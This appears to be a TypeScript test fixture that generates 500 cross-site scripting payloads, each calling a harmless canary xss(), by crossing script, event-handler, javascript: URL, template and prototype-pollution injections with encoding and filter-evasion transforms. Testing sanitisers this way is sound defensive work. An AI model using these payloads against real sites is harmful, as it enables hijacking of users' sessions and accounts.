/** Strings that become something else where a page treats text as markup, code, an address or a property: each calls `xss()` if it ever runs. */

const CALL = "xss()";

const SHAPES: readonly string[] = [
  `<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg><script href="data:text/javascript,${CALL}"/></svg>`,
  `"><img src=x onerror=${CALL}>`,
  `' autofocus onfocus='${CALL}`,
  `javascript:${CALL}`,
  `<a href="javascript:${CALL}">look</a>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `<details open ontoggle=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<style>@import 'javascript:${CALL}';*{background:url(javascript:${CALL})}</style>`,
  `<object data="javascript:${CALL}"></object>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<base href="javascript:${CALL}//">`,
  `<form action="javascript:${CALL}"><button autofocus>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `[look](javascript:${CALL})`,
  `__proto__[onerror]=${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
];

const WAYS: readonly ((shape: string) => string)[] = [
  (shape) => shape,
  (shape) => shape.replaceAll(/<(\w+)/g, (tag) => tag.toUpperCase()),
  (shape) => encodeURIComponent(shape).slice(0, 128),
  (shape) => shape.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (shape) => shape.replaceAll("<", "&#60;"),
  (shape) => shape.replaceAll("<", "\\u003c"),
  (shape) => shape.replaceAll("<", "\uff1c"),
  (shape) => `]]>${shape}`,
  (shape) => `-->${shape}`,
  (shape) => `</div></span>${shape}`,
  (shape) => `"'\`>${shape}`,
  (shape) => shape.replaceAll(" ", "/"),
  (shape) => shape.replaceAll(" ", "\t"),
  (shape) => shape.replaceAll(" ", "\n"),
  (shape) => `\u202e${shape}\u202c`,
  (shape) => [...shape].join("\u200b").slice(0, 120),
  (shape) => `<<${shape}>>`,
  (shape) => `a${shape}b`,
  (shape) => `${shape}${shape}`.slice(0, 128),
  (shape) => `\u0000${shape}`,
];

/** Five hundred of them, each at most 128 letters: the least that any field takes. */
export const PAYLOADS: readonly string[] = SHAPES.flatMap((shape) =>
  WAYS.map((way) => way(shape).slice(0, 128)),
);
